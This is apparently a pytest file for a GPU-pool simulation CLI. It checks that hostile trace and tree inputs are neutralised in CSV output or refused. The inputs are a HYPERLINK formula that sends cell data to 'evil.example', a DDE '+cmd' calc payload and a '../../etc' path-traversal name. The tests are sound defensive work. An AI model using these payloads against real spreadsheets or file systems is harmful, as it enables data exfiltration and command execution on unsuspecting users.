"""``gpupool simulate`` reads files anyone may have written (a trace, a tree, a what-if) and
writes files people open in spreadsheets and browsers: hostile content must neither run there
nor reach outside the output folder."""

from __future__ import annotations

import csv
from pathlib import Path

from typer.testing import CliRunner

from portal.cli import app

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["simulate", "--no-progress", *args])
    return result.exit_code, result.output


def test_a_tenant_named_like_a_formula_is_text_in_every_csv(tmp_path: Path) -> None:
    trace = tmp_path / "trace.csv"
    with trace.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["submit_time", "duration", "gpus", "tenant"])
        for i in range(6):
            writer.writerow([i * 60, 600, 1, HOSTILE if i % 2 else "+cmd|' /c calc'!A0"])
    out = tmp_path / "out"

    code, output = run("--trace", str(trace), "--cluster", "h100-80g:8", "--out", str(out))

    assert code == 0, output
    cells = [
        cell
        for path in out.glob("*.csv")
        for row in csv.reader(path.open(newline=""))
        for cell in row
    ]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a negative number may start with a minus
    assert sorted(p.parent for p in out.rglob("*")) == [out] * len(list(out.rglob("*")))


def test_an_account_named_to_climb_out_of_the_output_folder_is_refused(tmp_path: Path) -> None:
    trace = tmp_path / "trace.csv"
    trace.write_text("submit_time,duration,gpus,tenant\n0,600,1,alpha\n")
    tree = tmp_path / "tree.json"
    tree.write_text(
        '{"accounts": [{"name": "../../etc", "kind": "program"}],'
        ' "tenants": {"alpha": "../../etc"}}'
    )

    code, output = run(
        "--trace",
        str(trace),
        "--cluster",
        "h100-80g:8",
        "--tree",
        str(tree),
        "--out",
        str(tmp_path / "out"),
    )

    assert code != 0
    assert "is not a valid name" in output
    assert not (tmp_path / "out").exists()


def test_a_what_if_cannot_name_accounts_the_tree_does_not_have(tmp_path: Path) -> None:
    trace = tmp_path / "trace.csv"
    trace.write_text("submit_time,duration,gpus,tenant\n0,600,1,alpha\n")
    change = tmp_path / "change.json"
    change.write_text('{"budgets": {"someone-elses-program": 0}}')

    code, output = run(
        "--trace",
        str(trace),
        "--cluster",
        "h100-80g:8",
        "--what-if",
        str(change),
        "--out",
        str(tmp_path / "out"),
    )

    assert code != 0
    assert "no account 'someone-elses-program'" in output
